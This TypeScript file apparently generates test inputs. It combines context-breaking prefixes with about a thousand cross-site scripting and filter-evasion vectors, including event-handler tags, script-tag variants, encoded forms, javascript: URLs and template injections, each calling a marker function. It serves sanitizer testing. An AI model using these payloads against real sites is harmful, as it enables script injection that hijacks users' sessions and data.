/**
 * A thousand texts that would run a script if taken for markup, an attribute, an address, a template or code. Each
 * calls `pwned`. They combine the vectors of
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html and
 * https://portswigger.net/web-security/cross-site-scripting/cheat-sheet with everything that could end the surrounding
 * context.
 */
export function scriptPayloads(): string[] {
  return endings.flatMap((ending) => vectors.map((vector) => ending + vector));
}

const run = "pwned(1)";

/** Strings that end the context in which a text could be. */
const endings = [
  "",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "-->",
  "]]>",
  '\\"});',
];

/** Events that fire without user interaction, with their elements. */
const events = [
  "<img src=x onerror=$>",
  "<img/src=x/onerror=$>",
  "<IMG SRC=x OnErRoR=$>",
  '<img src="x" onerror="$"',
  "<img src=x onerror=&#112;wned(1)>",
  "<img srcset=x onerror=$>",
  "<image src=x onerror=$>",
  "<svg onload=$>",
  "<svg/onload=$//",
  "<svg><script>$</script>",
  "<svg><script href=data:,$ />",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<svg><set onbegin=$ attributeName=x>",
  "<svg><a xlink:href=javascript:$><text y=9>x</text></a>",
  "<svg><use href=data:image/svg+xml,<svg/onload=$>#x>",
  "<svg><foreignObject><img src=x onerror=$></foreignObject>",
  "<svg><style><img src=x onerror=$></style>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=$&gt;'>",
  "<math href=javascript:$>x</math>",
  "<body onload=$>",
  "<body onpageshow=$>",
  "<body onfocus=$ tabindex=1>",
  "<input autofocus onfocus=$>",
  "<select autofocus onfocus=$>",
  "<textarea autofocus onfocus=$>",
  "<button autofocus onfocus=$>x</button>",
  "<a href=x autofocus onfocus=$ tabindex=1>x</a>",
  "<details open ontoggle=$>",
  "<details open><summary onfocusin=$ autofocus>",
  "<video src=x onerror=$>",
  "<video><source onerror=$>",
  "<video autoplay onloadstart=$ src=data:,>",
  "<audio src=x onerror=$>",
  "<track default onerror=$>",
  "<marquee onstart=$>x</marquee>",
  "<iframe onload=$>",
  "<iframe src=javascript:$>",
  "<iframe srcdoc='<script>parent.$</script>'>",
  "<iframe src='data:text/html,<script>parent.$</script>'>",
  "<object data=javascript:$>",
  "<object onerror=$ data=x>",
  "<embed src=javascript:$>",
  "<embed onload=$ src=x>",
  "<link rel=stylesheet href=x onerror=$>",
  "<link rel=preload as=image href=x onerror=$>",
  "<style onload=$></style>",
  "<style>@import 'javascript:$';</style>",
  "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=$>",
  "<b style='transition:opacity 1ms' ontransitionend=$>",
  "<meta http-equiv=refresh content='0;url=javascript:$'>",
  "<base href='javascript:/$//'>",
  "<form action=javascript:$><button autofocus>x",
  "<form><button formaction=javascript:$>x",
  "<isindex type=image src=x onerror=$>",
  "<dialog open onclose=$>",
  "<div onpointerenter=$ onmouseover=$ onmousemove=$>x</div>",
  "<b contenteditable autofocus onfocus=$>x</b>",
  "<x onclick=$ tabindex=1 id=x onfocus=$>",
  "<template><img src=x onerror=$></template>",
  "<noscript><p title='</noscript><img src=x onerror=$>'>",
  "<plaintext><img src=x onerror=$>",
  "<xmp><img src=x onerror=$></xmp>",
];

const scripts = [
  "<script>$</script>",
  "<ScRiPt>$</sCrIpT>",
  "<script >$</script >",
  "<script\n>$</script\n>",
  "<script/x>$</script>",
  "<scr<script>ipt>$</scr</script>ipt>",
  "<script>$",
  "<script>$//",
  "<script src=data:text/javascript,$></script>",
  "<script type=module>$</script>",
  "<script nonce>$</script>",
  "<<script>$//<</script>",
  "&lt;script&gt;$&lt;/script&gt;",
  "&#60;script&#62;$&#60;/script&#62;",
  "%3Cscript%3E$%3C/script%3E",
  "\\u003cscript\\u003e$\\u003c/script\\u003e",
  "＜script＞$＜/script＞",
];

const others = [
  "javascript:$",
  "JaVaScRiPt:$",
  "java\tscript:$",
  "java\nscript:$",
  " javascript:$",
  "\u0001javascript:$",
  "javascript://%0a$",
  "data:text/html,<script>$</script>",
  "vbscript:$",
  '" onmouseover="$" x="',
  "' onfocus='$' autofocus x='",
  "` onerror=$ `",
  '" autofocus onfocus="$',
  '"-$-"',
  "'-$-'",
  "`-$-`",
  "{{constructor.constructor('$')()}}",
  "{{$on.constructor('$')()}}",
  "<%= $ %>",
  "#{$}",
  "[x](javascript:$)",
  '![x](x" onerror="$)',
  "<javascript:$>",
  '{"__proto__":{"innerHTML":"<img src=x onerror=$>"}}',
  "\u2028$\u2029",
];

const vectors = [...events, ...scripts, ...others].map((shape) => shape.replaceAll("$", () => run));
